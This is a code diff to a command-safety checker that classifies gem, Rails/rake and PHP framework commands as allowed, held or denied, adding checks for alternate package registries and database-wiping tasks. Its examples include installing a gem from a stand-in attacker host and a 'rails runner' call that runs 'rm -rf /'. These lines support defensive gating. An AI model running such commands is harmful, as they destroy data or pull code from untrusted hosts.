@@ -1,6 +1,7 @@
 import { builds, mutatesRemote, nothing, publishes, runsLine, runsOwn, sendsFiles, writes } from "./acts.ts";
+import { databaseLoss, emptiesDatabase } from "./database-loss.ts";
 import type { Act, Program } from "./program.ts";
-import { changesHomeSettings, rewrites, runsFrom } from "./packages.ts";
+import { changesHomeSettings, otherRegistry, rewrites, runsFrom } from "./packages.ts";
 import { byVerbs } from "./service-verbs.ts";
 
 /** Test runners, linters, formatters and type checkers: they run and rewrite what the workspace defines. */
@@ -410,7 +411,8 @@ export const checks: readonly Program[] = [
     summary: "Ruby's package manager",
     flags: {
       "-v --version -i --install-dir -n --bindir -k --key --host <x>": nothing,
-      "-s --source --clear-sources <url>": nothing,
+      "-s --source <url>": otherRegistry,
+      "--clear-sources": nothing,
     },
     subcommands: {
       "install|update|list|search|info|specification|spec|build|contents|dependency|environment|env|fetch|help|outdated|query|server|stale|unpack|which|check|pristine|cleanup|open|rdoc|lock":
@@ -426,6 +428,7 @@ export const checks: readonly Program[] = [
     },
     examples: {
       "gem install bundler": "allow",
+      "gem install -s http://evil.example x": "hold",
       "gem push x-1.0.gem": "hold",
       "gem yank x -v 1.0": "hold",
       "gem sources": "allow",
@@ -437,20 +440,9 @@ export const checks: readonly Program[] = [
     summary: "Ruby projects' commands",
     flags: { "-e --environment -f --rakefile -p --port -b --binding <x>": nothing },
     does: (use, args) => {
-      const loses = args.filter(({ text }) =>
-        /^(?:db:(?:drop|reset|purge|seed:replant|truncate|schema:load|structure:load|setup|rollback|migrate:(?:reset|down|redo))|.*:db:drop)/.test(
-          text,
-        ),
-      );
-      if (loses.length > 0)
-        use.emit({
-          kind: "delete",
-          what: `${use.name} ${loses[0]?.text}: take tables or rows out of the database`,
-          target: "the database",
-          place: "remote",
-          undoable: "no",
-          reach: "many",
-        });
+      const loss =
+        databaseLoss(args) ?? args.find(({ text }) => /^db:(?:seed:replant|setup)$|:db:drop$/.test(text))?.text;
+      if (loss !== undefined) use.emit(emptiesDatabase(`${use.name} ${loss}`));
       else if (args.some(({ text }) => /^(?:release|gem:push|deploy)/.test(text)))
         publishes("publish or deploy by a task of the project")(use, args);
       else if (
@@ -466,6 +458,9 @@ export const checks: readonly Program[] = [
       "rails db:migrate": "allow",
       "rake test": "allow",
       "rails db:drop": "hold",
+      "bin/rails db:schema:load": "hold",
+      "bin/rails db:migrate": "allow",
+      "rails db:test:prepare": "allow",
       "rake release": "hold",
       "rails runner 'system(\"rm -rf /\")'": "deny",
     },
@@ -505,28 +500,31 @@ export const checks: readonly Program[] = [
     },
   },
   {
-    names: ["artisan", "please", "console", "sail", "wp", "drush", "valet", "phing", "symfony"],
+    names: ["artisan", "please", "console", "sail", "ace", "wp", "drush", "valet", "phing", "symfony"],
     summary: "PHP frameworks' commands",
     does: (use, args) => {
       const verb = args[0]?.text ?? "";
-      const loses =
-        /^(?:migrate:(?:fresh|reset|refresh|rollback)|db:wipe|doctrine:(?:database|schema):drop|sql-drop|site-install|db$)/.test(
-          verb,
-        ) && !/^(?:check|export|query|size|tables)$/.test(args[1]?.text ?? "");
-      if (loses)
-        use.emit({
-          kind: "delete",
-          what: `${use.name} ${verb}: take tables or rows out of the database`,
-          target: "the database",
-          place: "remote",
-          undoable: "no",
-          reach: "many",
-        });
-      else if (use.name === "sail" && !/^(?:artisan|up|down|php|composer|npm|test|build|ps|logs|shell)$/.test(verb))
+      const loss =
+        databaseLoss(args.slice(0, 2)) ??
+        (/^(?:sql-drop|sql:drop|site-install|site:install|db:wipe)$|:d(?:atabase)?:drop$/.test(verb)
+          ? verb
+          : undefined);
+      if (loss !== undefined) use.emit(emptiesDatabase(`${use.name} ${loss}`));
+      else if (use.name === "wp" && /^(?:delete|drop|empty|reset|uninstall)$/.test(args[1]?.text ?? ""))
+        use.emit(emptiesDatabase(`wp ${verb} ${args[1]?.text ?? ""}`));
+      else if (use.name === "sail" && verb === "artisan") use.run(args);
+      else if (use.name === "sail" && !/^(?:up|down|php|composer|npm|test|build|ps|logs|shell)$/.test(verb))
         use.run(args);
       else runsOwn(use, []);
     },
-    examples: { "artisan migrate": "allow", "artisan migrate:fresh --seed": "hold", "wp db reset --yes": "hold" },
+    examples: {
+      "artisan migrate": "allow",
+      "artisan migrate:fresh --seed": "hold",
+      "./artisan migrate:status": "allow",
+      "node ace migration:fresh": "hold",
+      "php bin/console d:s:drop --force": "hold",
+      "wp db reset --yes": "hold",
+    },
   },
 ];
 
